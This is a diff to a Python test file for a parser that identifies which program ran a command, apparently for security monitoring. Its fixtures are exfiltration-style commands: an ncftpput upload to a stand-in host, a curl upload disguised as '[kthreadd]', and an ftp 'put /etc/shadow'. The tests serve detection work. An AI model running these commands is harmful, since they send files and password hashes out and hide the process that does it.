@@ -100,6 +100,19 @@ def test_a_program_of_a_script_language_is_read_by_its_own_name() -> None:
     assert [command.program for command in found.commands] == ["python3", "aws"]
 
 
+@pytest.mark.parametrize(
+    ("image", "line", "program"),
+    [
+        ("/var/tmp/a", "ncftpput h.example /in /srv/a", "ncftpput"),
+        ("/usr/bin/curl", "[kthreadd] -T /srv/a https://h.example/", "curl"),
+        ("/usr/bin/curl", "wget https://h.example/", "curl"),
+        ("/var/tmp/a", "b -x", "a"),
+    ],
+)
+def test_a_program_is_the_one_of_its_file_or_its_first_word_that_is_known(image: str, line: str, program: str) -> None:
+    assert understood(line, image).commands[0].program == program
+
+
 def test_what_was_typed_after_a_program_started_is_its_input() -> None:
     (found, *_) = understood("ftp -n h.example\nput /etc/shadow x", "/usr/bin/ftp").commands
     assert found.text == "put /etc/shadow x"
